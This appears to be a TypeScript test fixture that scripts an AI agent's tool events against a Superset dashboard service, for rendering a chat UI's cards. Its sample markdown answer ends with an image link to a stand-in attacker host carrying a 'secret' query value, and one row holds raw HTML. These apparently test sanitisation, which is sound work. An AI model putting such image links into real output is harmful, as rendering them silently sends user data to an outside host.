import type { Payload } from './replay';

// Scripted pieces of runs, in the shapes of the event fixtures.

const risk = (tool: string, env = 'dev') => ({ tool, env, permission: 'granted' });

export const start = (call_id: string, tool: string, args: object, kind = 'read', env = 'dev'): Payload => ({
  type: 'tool_start',
  call_id,
  tool,
  args,
  env_id: `ss-${env}`,
  risk: risk(kind, env),
});

export const finished = (outcome = 'answered'): Payload => ({ type: 'run_finished', outcome });
export const usage: Payload = { type: 'usage', input_tokens: 1284, output_tokens: 311, cost: 0.0042 };

export const table: Payload[] = [
  start('t1', 'search_dashboards', { query: 'sales', page_size: 50 }),
  {
    type: 'tool_result',
    call_id: 't1',
    tool: 'search_dashboards',
    duration_ms: 412,
    summary: '151 dashboards',
    preview: {
      columns: [
        { name: 'id', type: 'int' },
        { name: 'title', type: 'string' },
        { name: 'owners', type: 'string' },
        { name: 'views', type: 'int', exact: true },
        { name: 'published', type: 'bool' },
      ],
      rows: [
        [42, 'Sales overview', 'Anna Ivanova', '9007199254740993', true],
        [57, 'Sales by region', 'Ivan Petrov', '120311', true],
        [61, '<b>Stock</b> & flow', null, '17', false],
        [64, 'Returns', 'Anna Ivanova', '2044', true],
        [70, 'Margins 2026', 'Olga Sidorova', '388', false],
      ],
      completeness: 'INCOMPLETE',
      returned: 5,
      total: 151,
      bounded_by: ['preview_limit'],
    },
    artifact: {
      decision: 'CREATED',
      coverage: 'COMPLETE',
      id: 'art_01JZZZZZZZZZZZZZZZZZZZZZZZ',
      format: 'jsonl',
      size_bytes: 20480,
      rows: 151,
      expires_at: new Date(Date.now() + 86_400_000).toISOString(),
    },
    links: [
      { title: 'Sales overview', url: 'https://bi.example.com/superset/dashboard/42/' },
      { title: 'Sales by region', url: 'https://bi.example.com/superset/dashboard/57/' },
    ],
  },
];

export const answer = (id: string, text: string, pieces = 6, pause = 30): (Payload | number)[] => {
  const points = [...text];
  const size = Math.ceil(points.length / pieces);
  const steps: (Payload | number)[] = [];
  for (let i = 0; i < points.length; i += size)
    steps.push({ type: 'text_delta', message_id: id, offset: i, text: points.slice(i, i + size).join('') }, pause);
  return [...steps, { type: 'message', message_id: id, role: 'assistant', text }];
};

export const markdown = `The chart **Revenue** is empty because the filter *Region* hides every row.

1. The filter is set to \`North\`.
2. The dataset has no rows for **North** in July.

\`\`\`sql
SELECT region, sum(amount) AS revenue -- per region
FROM sales
WHERE month = '2026-07' AND amount > 0
GROUP BY 1
\`\`\`

| region | revenue |
|---|---:|
| South | 12 438 |
| West | 9 120 |

> Filters of a dashboard apply to all its charts.

See [the dashboard](https://bi.example.com/superset/dashboard/42/). ![chart](https://evil.example/x?secret=1)
`;

export const confirm = (id: string, dangerous: boolean, more: object = {}): Payload => ({
  type: 'confirm_required',
  confirmation_id: id,
  call_id: `call_${id}`,
  tool: dangerous ? 'delete_dashboard' : 'update_dashboard',
  args: dangerous ? { dashboard: 42, delete_charts: false } : { dashboard: 42, patch: { title: 'Sales 2026' } },
  args_digest: 'd'.repeat(64),
  env_id: dangerous ? 'ss-prod' : 'ss-dev',
  risk: risk(dangerous ? 'dangerous' : 'write', dangerous ? 'prod' : 'dev'),
  dangerous,
  countdown_seconds: dangerous ? 10 : 0,
  allowed_decisions: dangerous ? ['approve', 'reject'] : ['approve', 'edit', 'reject'],
  preview: {
    object: 'Sales overview',
    url: 'https://bi.example.com/superset/dashboard/42/',
    diff: dangerous
      ? [{ field: 'dashboard', before: 'Sales overview' }]
      : [
          { field: 'title', before: 'Sales overview', after: 'Sales 2026' },
          { field: 'slug', after: 'sales-2026' },
          { field: 'css', before: '.header { color: red; }' },
        ],
    blast_radius: [
      { kind: 'chart', id: '7', title: 'Revenue', url: 'https://bi.example.com/explore/?slice_id=7' },
      { kind: 'chart', id: '8', title: 'Margin' },
      { kind: 'report', id: '3', title: 'Weekly sales mail', note: 'sent to 12 people' },
    ],
    changed_on: '2026-11-01T10:00:00Z',
    owners: ['Anna Ivanova', 'Ivan Petrov'],
    notes: dangerous ? ['A backup was exported before this question.'] : [],
    untrusted: dangerous ? [] : ['/patch/title'],
  },
  expires_at: new Date(Date.now() + 3_600_000).toISOString(),
  ...more,
});

/** One run that shows every state of a card. */
export const states: (Payload | number)[] = [
  ...table,
  start('s1', 'get_dashboard', { dashboard: 42 }),
  {
    type: 'tool_retry',
    call_id: 's1',
    tool: 'get_dashboard',
    attempt: 2,
    max_attempts: 2,
    delay_ms: 1000,
    reason: { class: 'transient', status: 503 },
  },
  {
    type: 'tool_result',
    call_id: 's1',
    tool: 'get_dashboard',
    duration_ms: 2210,
    summary: 'Sales overview: 12 charts, 3 filters',
    preview: { object: { id: 42, title: 'Sales overview', charts: 12 } },
    artifact: { decision: 'SKIPPED' },
    links: [],
  },
  start('s2', 'inspect_chart', { chart: 7 }),
  {
    type: 'tool_error',
    call_id: 's2',
    tool: 'inspect_chart',
    class: 'transient',
    message: 'Superset answered 503 twice.',
    retryable: true,
    retry_exhausted: true,
  },
  start('s3', 'update_chart', { chart: 7, patch: { name: 'Revenue' } }, 'write'),
  {
    type: 'tool_timeout',
    call_id: 's3',
    tool: 'update_chart',
    cause: 'timeout',
    timeout_ms: 60000,
    is_write_tool: true,
    retryable: true,
    outcome: 'unknown',
    verify: 'https://bi.example.com/explore/?slice_id=7',
  },
  start('s4', 'refresh_dataset', { dataset: 3 }, 'write'),
  {
    type: 'tool_timeout',
    call_id: 's4',
    tool: 'refresh_dataset',
    cause: 'connection_lost',
    timeout_ms: 60000,
    is_write_tool: true,
    retryable: false,
    outcome: 'unknown',
  },
  { type: 'tool_outcome', call_id: 's4', outcome: 'applied', evidence: 'The dataset has the new column “region”.' },
  {
    type: 'permission_denied',
    call_id: 's5',
    tool: 'delete_dashboard',
    env_id: 'ss-prod',
    reason: 'role',
    required_permission: 'can_write on Dashboard',
  },
  start('s6', 'run_sql', { database_id: 1, sql: 'SELECT 9007199254740993' }, 'query'),
];
